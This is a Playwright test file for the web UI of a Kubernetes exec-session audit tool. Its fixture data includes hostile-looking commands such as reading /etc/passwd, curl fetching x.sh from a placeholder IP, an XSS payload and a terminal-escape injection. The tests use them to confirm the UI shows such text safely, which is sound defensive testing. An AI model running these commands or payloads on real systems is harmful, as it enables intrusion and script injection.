import assert from 'node:assert/strict';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { startHttpServer, type HttpServer } from '../../src/api/server.ts';
import { silentLogger } from '../../src/observe/log.ts';
import { createMetrics } from '../../src/observe/metrics.ts';
import type { Database } from '../../src/store/database.ts';
import type { Timeline } from '../../src/timeline/assemble.ts';
import type { SessionDetail } from '../../src/timeline/queries.ts';
import { backends, createTestDatabase, skipReason, type BackendName } from '../support/databases.ts';
import { UA_XSS, writeScenario, XSS, type Scenario } from '../timeline/scenario.ts';
import { chromiumSkipReason, launchChromium } from './chromium.ts';

const noChromium = chromiumSkipReason();
if (noChromium) process.stdout.write(`# page tests skipped: ${noChromium}\n`);

// Outside the working tree: a test run writes nothing into the checkout.
let screenshots: string | undefined;

let browser: Browser | undefined;
before(async () => {
  if (!noChromium) browser = await launchChromium();
});
after(() => browser?.close());

/** Waits until the page finished rendering the current route (app.js sets data-ready). */
async function rendered(page: Page): Promise<void> {
  await page.waitForFunction(() => document.body.dataset.ready === 'true');
}

async function go(page: Page, url: string): Promise<void> {
  await page.evaluate(() => (document.body.dataset.ready = 'false')).catch(() => undefined);
  await page.goto(url);
  await rendered(page);
}

async function screenshot(page: Page, name: string, backend: BackendName): Promise<string> {
  screenshots ??= mkdtempSync(join(tmpdir(), 'exectrail-page-screenshots-'));
  const path = join(screenshots, `page-${name}-${backend}.png`);
  await page.screenshot({ path, fullPage: true });
  process.stdout.write(`# screenshot: ${path}\n`);
  return path;
}

for (const backend of backends) {
  describe(`web page in headless Chromium on ${backend}`, { skip: noChromium || skipReason(backend) }, () => {
    let db: Database;
    let close: () => Promise<void>;
    let scenario: Scenario;
    let server: HttpServer;
    let page: Page;
    const consoleErrors: string[] = [];
    before(async () => {
      ({ db, close } = await createTestDatabase(backend));
      scenario = await writeScenario(db);
      server = await startHttpServer({ db, metrics: createMetrics(), logger: silentLogger, port: 0, host: '127.0.0.1' });
      page = await browser!.newPage({ viewport: { width: 1400, height: 900 } });
      page.on('console', (message) => {
        if (message.type() === 'error') consoleErrors.push(message.text());
      });
      page.on('pageerror', (error) => consoleErrors.push(error.message));
    });
    after(async () => {
      await page?.close();
      await server?.close();
      await close?.();
    });

    it('lists the sessions, marks the denied attempt and the Block alert, and filters by user', async () => {
      await go(page, `${server.url}/`);
      const rows = page.locator('table.sessions tbody tr');
      assert.deepEqual(await rows.locator('td:nth-child(2)').allTextContents(), ['carol', 'bob', 'dave', 'alice']);
      const bob = rows.nth(1);
      assert.equal(await bob.getAttribute('class'), 'denied');
      assert.equal(await bob.locator('.badge.denied').textContent(), 'denied 403');
      assert.match((await bob.locator('td.outcome').textContent())!, /^denied 403 pods "web-0" is forbidden: User "bob" cannot create resource "pods\/exec"/);
      const alice = rows.nth(3);
      assert.equal(await alice.locator('td:nth-child(9) .badge.block').textContent(), '1 (1 Block)');
      assert.equal(await alice.locator('td:nth-child(8)').textContent(), '6');
      await screenshot(page, 'sessions', backend);

      await page.fill('#filters input[name=user]', 'alice');
      await page.evaluate(() => (document.body.dataset.ready = 'false'));
      await page.click('#filters button[type=submit]');
      await rendered(page);
      assert.match(page.url(), /#\/\?user=alice$/, 'no window unless one is chosen: the newest sessions, however old');
      assert.deepEqual(await page.locator('table.sessions tbody tr td:nth-child(2)').allTextContents(), ['alice']);
    });

    it("shows one session: who, when, from where, with what tool, the commands as a tree, the alert highlighted; nothing it holds runs", async () => {
      await page.evaluate(() => (document.body.dataset.ready = 'false'));
      await page.click(`tr[data-session-id="${scenario.ids.alice}"] td:first-child a`);
      await rendered(page);
      assert.equal(new URL(page.url()).hash, `#/session/${encodeURIComponent(scenario.ids.alice)}`);
      assert.equal(await page.locator('h1').textContent(), 'alice — interactive exec into shop/web-0 container web');
      const facts = Object.fromEntries(
        await page.locator('dl.facts dt').evaluateAll((dts) => dts.map((dt) => [dt.textContent, dt.nextElementSibling?.textContent])),
      ) as Record<string, string>;
      assert.equal(facts['From'], '192.0.2.10');
      assert.equal(facts['Tool'], 'kubectl v1.34.1');
      assert.equal(facts['Started (UTC)'], scenario.at(0, 100001));
      assert.equal(facts['Ended (UTC)'], scenario.at(300, 250002));
      assert.equal(facts['Command'], 'bash');
      assert.equal(facts['Terminal'], 'yes (interactive)');

      // The process tree, read back from the nested lists as [command, depth] in document order.
      const tree = await page.locator('section ul.tree code.cmd').evaluateAll((codes) =>
        codes.map((code) => {
          let depth = -1;
          for (let el: Element | null = code; el; el = el.parentElement) if (el.tagName === 'UL') depth++;
          return [code.textContent, depth];
        }),
      );
      assert.deepEqual(tree, [
        ['/bin/bash', 0],
        ['/bin/sh -c cat /etc/passwd | grep root', 1],
        ['/bin/cat /etc/passwd', 2],
        ['/bin/grep root', 2],
        ['/usr/bin/curl -s http://198.51.100.9/x.sh', 1],
        [`/bin/sh -c echo '${XSS}' | tee /tmp/x`, 1],
        ['/usr/bin/printf \\x1b[2J\\x1b]0;pwned\\x07', 1],
      ]);
      const blocked = page.locator('ul.tree .event.alert.block');
      assert.equal(await blocked.count(), 1);
      assert.match((await blocked.textContent())!, /ALERT Block.*\/usr\/bin\/curl.*policy block-curl-in-shop · severity 8 · curl is not allowed in shop pods · Permission denied/);
      assert.match((await page.locator('p.summary').first().textContent())!, /^6 processes, 1 alert1 Block$/);

      // Each linked event is listed once, and every one is: the API's activity, key for key.
      const detail = (await (await fetch(`${server.url}/api/v1/sessions/${encodeURIComponent(scenario.ids.alice)}`)).json()) as SessionDetail;
      const listed = await page.locator('#app > :not(#pod-context) :not(svg *)[data-event]').evaluateAll((els) => els.map((el) => el.getAttribute('data-event')!));
      const seen = new Map<string, number>();
      for (const key of listed) seen.set(key, (seen.get(key) ?? 0) + 1);
      assert.deepEqual([...seen].filter(([, n]) => n !== 1), [], 'no event shown twice');
      assert.deepEqual([...seen.keys()].sort(), detail.activity.map((e) => e.eventKey).sort());

      // One swimlane, this session's, with a mark per process and per alert of the session.
      const lanes = page.locator('#app svg.swimlanes g.lane[data-session]');
      assert.equal(await lanes.count(), 1);
      assert.equal(await lanes.getAttribute('data-session'), scenario.ids.alice);
      assert.equal(await lanes.locator('[data-mark=process]').count(), detail.session.processCount);
      assert.equal(await lanes.locator('[data-mark=alert]').count(), detail.session.alertCount);
      assert.equal(await lanes.locator('[data-mark=alert].block').count(), 1);
      const markKeys = await lanes.locator('[data-mark]').evaluateAll((els) => els.map((el) => el.getAttribute('data-event')));
      assert.ok(markKeys.every((key) => seen.has(key!)), 'every mark is one of the listed events');
      // Marks are placed in time: the first process left of the Block alert, which is left of the last process.
      const xs = await lanes.locator('[data-mark]').evaluateAll((els) => els.map((el) => [el.getAttribute('data-mark'), el.getBoundingClientRect().x] as const));
      const processXs = xs.filter(([k]) => k === 'process').map(([, x]) => x);
      const alertX = xs.find(([k]) => k === 'alert')![1];
      assert.ok(Math.min(...processXs) < alertX && alertX < Math.max(...processXs), `process marks ${processXs}, alert at ${alertX}`);

      // Attacker-shaped text is shown as text: no element came from it, no handler ran.
      assert.equal(await page.locator('img').count(), 0);
      assert.equal(await page.evaluate(() => document.body.dataset.pwned), undefined);

      // The pod around it: the denied attempt is there, this session's rows marked.
      const context = page.locator('#pod-context table.timeline tbody tr');
      await context.first().waitFor();
      const denied = page.locator('#pod-context tr.denied');
      assert.equal(await denied.count(), 1);
      assert.match((await denied.textContent())!, /DENIED attempt.*bob.*interactive exec into shop\/web-0 container web from 198\.51\.100\.7.*denied 403/);
      const contextKeys = await page.locator('#pod-context [data-event]').evaluateAll((els) => els.map((el) => el.getAttribute('data-event')));
      assert.deepEqual(contextKeys.filter((key) => seen.has(key!)), [], "the pod context leaves out this session's own events");
      assert.equal(await page.locator('#pod-context tr.current').count(), 2, 'this session is marked where it opened and ended');
      await screenshot(page, 'session', backend);
    });

    it("shows a denied attempt's page with its hostile user agent as plain text", async () => {
      await go(page, `${server.url}/#/session/${encodeURIComponent(scenario.ids.bob)}`);
      assert.equal(await page.locator('h1').getAttribute('class'), 'denied-title');
      const ua = await page.locator('dl.facts dt', { hasText: 'User agent' }).evaluate((dt) => dt.nextElementSibling!.textContent);
      assert.equal(ua, UA_XSS);
      assert.equal(await page.evaluate(() => document.body.dataset.pwned), undefined);
      assert.equal(await page.locator('#app script').count(), 0);
    });

    it("shows the pod's timeline in order: sessions, the denied attempt, processes and the Block alert", async () => {
      const query = new URLSearchParams({ namespace: 'shop', pod: 'web-0', ...scenario.window });
      await go(page, `${server.url}/#/timeline?${query}`);
      const rows = page.locator('table.timeline tbody tr');
      assert.deepEqual(await rows.evaluateAll((trs) => trs.map((tr) => tr.className.split(' ')[0])), [
        'session-start', 'process', 'process', 'process', 'process', 'alert', 'process', 'process', 'denied', 'session-start', 'process', 'process', 'session-end', 'alert', 'session-end',
      ]);
      assert.deepEqual(await rows.locator('td:first-child').allTextContents(), [...(await rows.locator('td:first-child').allTextContents())].sort());
      assert.equal(await rows.nth(3).locator('td:first-child').textContent(), scenario.at(5, 520), 'microseconds shown');
      assert.equal(await rows.nth(3).locator('td:last-child').getAttribute('class'), 'depth-2', 'cat is drawn two levels in');
      assert.equal(await page.locator('tr.alert.block td:nth-child(2) .badge.block').textContent(), 'ALERT Block');
      assert.match((await page.locator('tr.alert.block td:last-child').textContent())!, /^\/usr\/bin\/curl -s http:\/\/198\.51\.100\.9\/x\.sh pid 4020 policy block-curl-in-shop · severity 8/);
      assert.match((await page.locator('p.summary').textContent())!, /^2 sessions \(1 interactive\), 1 denied attempt, 8 processes, 2 alerts1 Block$/);

      // A swimlane per session in the window, with its processes and alerts as marks; what the API says.
      const timeline = (await (await fetch(`${server.url}/api/v1/timeline?${query}`)).json()) as Timeline;
      const lanes = page.locator('svg.swimlanes g.lane[data-session]');
      assert.deepEqual(await lanes.evaluateAll((gs) => gs.map((g) => g.getAttribute('data-session'))), timeline.sessions.map((session) => session.id));
      for (const session of timeline.sessions) {
        const lane = page.locator(`svg.swimlanes g.lane[data-session="${session.id}"]`);
        for (const kind of ['process', 'alert'] as const) {
          const expected = timeline.entries.filter((e) => e.kind === kind && e.sessionId === session.id).length;
          assert.equal(await lane.locator(`[data-mark=${kind}]`).count(), expected, `${session.user}: ${kind} marks`);
        }
        assert.equal(await lane.locator('[data-mark=denied]').count(), session.allowed ? 0 : 1, `${session.user}: denied mark`);
      }
      const unattributed = timeline.entries.filter((e) => e.kind === 'alert' && e.sessionId === null).length;
      assert.equal(await page.locator('svg.swimlanes g.lane.unattributed [data-mark=alert]').count(), unattributed);
      assert.equal(await page.locator('svg.swimlanes [data-mark=process]').count(), timeline.summary.processes);
      assert.equal(await page.locator('svg.swimlanes [data-mark=alert]').count(), timeline.summary.alerts);
      await screenshot(page, 'timeline', backend);
      assert.equal(await page.locator('#app').evaluate((app) => [...app.childNodes].some((n) => n.nodeType === Node.TEXT_NODE && n.textContent!.trim())), false, 'no stray text');
      assert.deepEqual(consoleErrors, [], 'no script error on any page');
    });

    it('has window, namespace and pod controls on the pod timeline', async () => {
      await go(page, `${server.url}/#/timeline`);
      assert.equal(await page.locator('h1').textContent(), 'Pod timeline', 'the header link opens the controls');
      await page.fill('#timeline-filters input[name=namespace]', 'staging');
      await page.fill('#timeline-filters input[name=pod]', 'web-0');
      await page.fill('#timeline-filters input[name=from]', scenario.window.from);
      await page.fill('#timeline-filters input[name=to]', scenario.window.to);
      await page.evaluate(() => (document.body.dataset.ready = 'false'));
      await page.click('#timeline-filters button[type=submit]');
      await rendered(page);
      assert.equal(await page.locator('h1').textContent(), 'Pod staging/web-0');
      assert.deepEqual(await page.locator('svg.swimlanes g.lane[data-session]').evaluateAll((gs) => gs.map((g) => g.getAttribute('data-session'))), [scenario.ids.dave]);
      assert.equal(await page.inputValue('#timeline-filters input[name=namespace]'), 'staging', 'the controls show the window drawn');

      // "earlier" moves the window back by its own length: before the scenario, nothing.
      await page.evaluate(() => (document.body.dataset.ready = 'false'));
      await page.click('p.window a.earlier');
      await rendered(page);
      const shifted = new URLSearchParams(new URL(page.url()).hash.split('?')[1]);
      const length = Date.parse(scenario.window.to) - Date.parse(scenario.window.from);
      assert.equal(Date.parse(shifted.get('to')!), Date.parse(scenario.window.to) - length);
      assert.equal(await page.locator('svg.swimlanes').count(), 0);
      assert.equal(await page.locator('#app p.muted', { hasText: 'No sessions, denied attempts or alerts in this window.' }).count(), 1);
    });

    it('fits a 420 px screen: no sideways scrolling, tables as cards with their column names, the chart inside', async () => {
      const narrow = await browser!.newPage({ viewport: { width: 420, height: 900 } });
      try {
        const query = new URLSearchParams({ namespace: 'shop', pod: 'web-0', ...scenario.window });
        for (const [name, hash] of [['sessions', '#/'], ['session', `#/session/${encodeURIComponent(scenario.ids.alice)}`], ['timeline', `#/timeline?${query}`]] as const) {
          await go(narrow, `${server.url}/${hash}`);
          if (name === 'session') await narrow.locator('#pod-context table.timeline').waitFor();
          const widths = await narrow.evaluate(() => ({ page: document.documentElement.scrollWidth, body: document.body.scrollWidth, viewport: window.innerWidth }));
          assert.ok(widths.page <= widths.viewport && widths.body <= widths.viewport, `${name}: content ${widths.page}px wide in a ${widths.viewport}px screen`);
          const offside = await narrow.locator('#app *').evaluateAll((els) => els.filter((el) => el.getBoundingClientRect().right > window.innerWidth + 0.5).map((el) => el.tagName + '.' + el.getAttribute('class')));
          assert.deepEqual(offside, [], `${name}: nothing drawn past the right edge`);
          const firstCell = narrow.locator('#app table tbody td').first();
          assert.equal(await firstCell.evaluate((td) => getComputedStyle(td, '::before').content), JSON.stringify(await firstCell.getAttribute('data-label')), `${name}: cells show their column name`);
          await screenshot(narrow, `${name}-420px`, backend);
        }
        const svgBox = await narrow.locator('svg.swimlanes').boundingBox();
        assert.ok(svgBox && svgBox.x >= 0 && svgBox.x + svgBox.width <= 420, `the chart fits: ${JSON.stringify(svgBox)}`);
      } finally {
        await narrow.close();
      }
    });

    it('asks for the API token when the server requires one, then shows the sessions', async () => {
      const guarded = await startHttpServer({ db, metrics: createMetrics(), logger: silentLogger, port: 0, host: '127.0.0.1', apiToken: 'page-token' });
      try {
        await go(page, `${guarded.url}/`);
        assert.equal(await page.locator('form.card input[name=token]').count(), 1);
        await page.fill('form.card input[name=token]', 'page-token');
        await page.evaluate(() => (document.body.dataset.ready = 'false'));
        await page.click('form.card button');
        await rendered(page);
        assert.equal(await page.locator('table.sessions tbody tr').count(), 4);
      } finally {
        await guarded.close();
      }
    });
  });
}
